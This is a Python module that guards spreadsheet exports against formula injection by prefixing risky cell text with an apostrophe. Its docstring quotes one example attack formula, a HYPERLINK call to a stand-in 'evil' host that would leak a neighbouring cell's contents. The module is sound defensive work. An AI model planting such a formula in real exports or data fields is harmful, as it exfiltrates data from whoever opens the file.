"""Cell values every format shares, and the guard against spreadsheet formula injection.

A spreadsheet runs a cell whose text starts with ``=``, ``+``, ``-`` or ``@``
(and, in some, a tab, carriage return or NUL before one) as a formula: an
actor id such as ``=HYPERLINK("http://evil/?"&A1)`` in an audit event would
run in the auditor's Excel. Such text gets a leading apostrophe, the OWASP
advice, which spreadsheets show as text. Numbers stay numbers, and so does
text that is exactly a plain decimal number (``-12.5``): no formula starts so.
"""

import json
import re

__all__ = ["FORMULA_TRIGGERS", "safe_text"]

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\0")

_PLAIN_NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")


def safe_text(value) -> str | int | float:
    """``value`` as a cell: numbers as they are, anything else as text no spreadsheet runs.

    ``None`` is empty text, booleans ``true``/``false``, dicts and lists compact
    JSON with sorted keys.
    """
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, (int, float)):
        return value
    if isinstance(value, (dict, list)):
        text = json.dumps(value, ensure_ascii=False, sort_keys=True, separators=(",", ":"))
    else:
        text = str(value)
    if text.startswith(FORMULA_TRIGGERS) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text
